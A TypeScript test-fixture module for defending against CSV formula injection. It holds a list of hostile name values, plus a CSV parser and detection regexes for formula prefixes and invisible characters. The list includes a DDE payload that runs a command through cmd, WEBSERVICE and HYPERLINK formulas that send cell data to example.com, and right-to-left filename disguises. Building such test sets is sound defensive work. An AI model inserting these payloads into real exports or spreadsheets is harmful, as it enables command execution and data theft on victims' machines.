const CALC = "cmd|' /C calc'!A0"

/** What people could type as their name so that somebody else's spreadsheet does something. */
export const HOSTILE: readonly string[] = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹦'].map(sign => `${sign}1+1`),
  ...['\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\ufeff', '\u202e', '\u0000', '\u2003'].map(
    space => `${space}=SUM(A1:A9)`,
  ),
  ...['=', '+', '-', '@'].map(sign => sign + CALC),
  ...[',', ';', '\t', '|', '\n', '\r\n', '"', '",', '";', '\r'].map(end => `Kim${end}=1+1`),
  '=HYPERLINK("https://example.com?x="&A1,"Rechnung")',
  '=WEBSERVICE("https://example.com/"&A2)',
  '=IMPORTXML("https://example.com","//a")',
  '=DDE("soffice";"x";"y")',
  '=INDIRECT("A1")',
  '"=1+1"',
  '""=1+1',
  "'=1+1",
  '";=1+1;"',
  '",=1+1,"',
  '"\r\n=1+1',
  '=1+1\r\n=2+2',
  '==1+1',
  '=-1',
  '-=1',
  '+-=1',
  '-5',
  '+49 89 1234567',
  '@SUM(1+1)*cmd',
  '=\t1',
  '\u202e)1+1(MUS=',
  'Kim\u202egnp.exe',
  'Kim;Beispiel',
  'Kim "die" Beispiel',
  'Zeile 1\nZeile 2',
  'Ende mit Anführung"',
]

/** The rows of a file as a program reads it that splits at `separator`; a quote counts where a field begins. */
export function fieldsOf(file: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let at = 0
  while (at < file.length) {
    let field = ''
    if (file[at] === '"') {
      for (at += 1; at < file.length; at += 1) {
        if (file[at] !== '"') field += file[at]
        else if (file[at + 1] === '"') {
          field += '"'
          at += 1
        } else break
      }
      at += 1
    }
    while (at < file.length && file[at] !== separator && file[at] !== '\n' && file[at] !== '\r') {
      field += file[at]
      at += 1
    }
    rows.at(-1)?.push(field)
    if (file[at] === '\r' && file[at + 1] === '\n') at += 1
    if (file[at] === separator) {
      at += 1
      if (at >= file.length || file[at] === '\n' || file[at] === '\r') rows.at(-1)?.push('')
    } else {
      at += 1
      if (at < file.length) rows.push([])
    }
  }
  return rows
}

/** What a spreadsheet takes for the beginning of a formula, in whatever width. */
export const FORMULA = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠﹦﹢﹣−﹫]/u
/** Bells, ends of lines in disguise, and what turns a text around. */
export const INVISIBLE =
  // oxlint-disable-next-line no-control-regex -- they are what must be gone
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u
